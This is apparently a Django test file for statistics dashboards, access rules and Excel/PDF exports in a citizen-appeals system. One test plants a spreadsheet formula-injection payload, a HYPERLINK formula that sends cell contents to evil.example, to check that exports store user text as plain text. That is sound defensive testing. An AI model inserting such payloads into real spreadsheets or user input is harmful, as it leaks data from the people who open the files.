import io
import subprocess

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from mashang.appeals import actions
from mashang.appeals.tests.conftest import codes, file  # noqa: F401 - fixtures
from mashang.testing import PASSWORD

from .test_metrics import world  # noqa: F401 - fixture


def login(client, user):
    client.logout()
    assert client.login(username=user.username, password=PASSWORD)


def queries(client, url, params=None) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url, params or {})
    assert response.status_code == 200, response.status_code
    return len(ctx.captured_queries)


@pytest.mark.parametrize("name", ["stats_overview", "stats_units"])
def test_dashboards_run_a_fixed_number_of_queries(client, people, county, file, name):  # noqa: F811
    login(client, people.county_leader)
    for i in range(2):
        a = file(phone=f"1380000{i:04d}")
        actions.dispatch_appeal(a, county.units.housing, acting_user=people.dispatcher)
    queries(client, reverse(name), {"to": "2100-01-01"})  # fills the caches (catalogue figures)
    few = queries(client, reverse(name), {"to": "2100-01-01"})
    for i in range(2, 12):
        a = file(phone=f"1380000{i:04d}")
        actions.dispatch_appeal(a, county.units.water, acting_user=people.dispatcher)
    many = queries(client, reverse(name), {"to": "2100-01-01"})
    print(f"\n{name}: {few} queries with 2 appeals, {many} with 12")
    assert few == many


def test_the_overview_shows_figures_with_formulas_and_links(client, people, world):  # noqa: F811
    login(client, people.county_leader)
    page = client.get(reverse("stats_overview"), {"to": "2100-01-01"}).content.decode()
    assert "（非常满意 + 满意 + 基本满意）÷ 已评价" in page
    assert "50.0%" in page  # the world's satisfaction
    assert "metric=bad" in page and "同期检举控告 1 件" in page


def test_every_figure_clicks_through_to_its_appeals(client, people, world):  # noqa: F811
    login(client, people.supervisor)
    page = client.get(reverse("stats_appeals"), {"metric": "bad", "to": "2100-01-01"})
    text = page.content.decode()
    assert world["b"].number in text and world["a"].number not in text
    page = client.get(reverse("stats_appeals"), {"metric": "invalid", "to": "2100-01-01"})
    assert world["c"].number in page.content.decode()


def test_a_unit_sees_its_own_page_only(client, people, county, world):  # noqa: F811
    login(client, people.handler_a)
    assert client.get(reverse("stats_unit", args=[county.units.housing.pk])).status_code == 200
    assert client.get(reverse("stats_unit", args=[county.units.water.pk])).status_code == 404
    assert client.get(reverse("stats_overview")).status_code == 403
    listed = client.get(
        reverse("stats_appeals"), {"metric": "received", "unit": county.units.water.pk}
    )
    assert listed.status_code == 404


def test_the_excel_export_opens_and_holds_the_list_without_identity(client, people, world):  # noqa: F811
    login(client, people.dispatcher)
    response = client.get(reverse("stats_export"), {"metric": "effective", "to": "2100-01-01"})
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(wb.active.iter_rows(min_row=3, values_only=True))
    numbers = {r[0] for r in rows}
    assert numbers == {world[k].number for k in ("a", "b", "e")}
    flat = repr(rows)
    assert "13800000002" not in flat and "张三" not in flat


def test_any_staff_list_exports_its_filter(client, people, county, world):  # noqa: F811
    login(client, people.handler_a)
    response = client.get(reverse("stats_export"), {"status": "accepted"})
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    numbers = {r[0] for r in wb.active.iter_rows(min_row=3, values_only=True)}
    assert numbers == {world["e"].number}


def test_monthly_report_as_excel_and_pdf(client, people, world):  # noqa: F811
    from django.utils import timezone

    login(client, people.county_leader)
    month = f"{timezone.localdate():%Y-%m}"
    xlsx = client.get(reverse("stats_report"), {"month": month, "format": "xlsx"})
    wb = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))
    assert wb.sheetnames == ["总体", "乡镇", "承办单位", "逐日"]
    assert ("满意度", 0.5) in {(r[0], r[1]) for r in wb["总体"].iter_rows(values_only=True)}
    pdf = b"".join(
        client.get(reverse("stats_report"), {"month": month, "format": "pdf"}).streaming_content
    )
    assert pdf.startswith(b"%PDF")
    try:
        text = subprocess.run(
            ["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True, timeout=60
        ).stdout.decode()
    except FileNotFoundError:
        pytest.skip("pdftotext not installed (poppler-utils)")
    assert "月度报告" in text and "满意度" in text
    assert client.get(reverse("stats_report"), {"month": "2026-13"}).status_code == 404


def test_no_export_turns_user_text_into_a_formula(client, people, county, file):  # noqa: F811
    """Issue 11, item 3: the list export and the monthly report write user text as text."""
    import zipfile

    from django.utils import timezone

    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    appeal = file(content=attack + " 村里路灯坏了")
    county.units.housing.name = "=1+1"  # an administrator's typo or worse
    county.units.housing.save()
    actions.dispatch_appeal(appeal, county.units.housing, acting_user=people.dispatcher)
    login(client, people.county_leader)
    exports = [
        client.get(reverse("stats_export"), {"metric": "received", "to": "2100-01-01"}),
        client.get(
            reverse("stats_report"), {"month": f"{timezone.localdate():%Y-%m}", "format": "xlsx"}
        ),
    ]
    for response in exports:
        data = b"".join(response.streaming_content)
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if "worksheets/sheet" in n]
        assert sheets and all("<f>" not in s for s in sheets)


def test_period_links_replace_by_instead_of_adding_another(client, people, world):  # noqa: F811
    import html
    import re

    login(client, people.county_leader)
    url = reverse("stats_overview") + "?to=2100-01-01"
    for _ in range(3):  # click 日, then 日 again from the page it leads to, …
        page = client.get(url).content.decode()
        url = reverse("stats_overview") + html.unescape(
            re.search(r'<a href="(\?[^"]*by=day[^"]*)">日</a>', page).group(1)
        )
    assert url.count("by=") == 1 and "to=2100-01-01" in url


def test_no_stats_page_links_a_dispatcher_to_a_page_that_refuses_them(client, people, world):  # noqa: F811
    import html
    import re

    login(client, people.dispatcher)
    page = client.get(reverse("stats_overview"), {"to": "2100-01-01"}).content.decode()
    links = {html.unescape(h) for h in re.findall(r'href="(/staff/stats/[^"]*)"', page)}
    assert links
    for link in links:
        assert client.get(link).status_code == 200, link
    assert reverse("stats_units") not in page
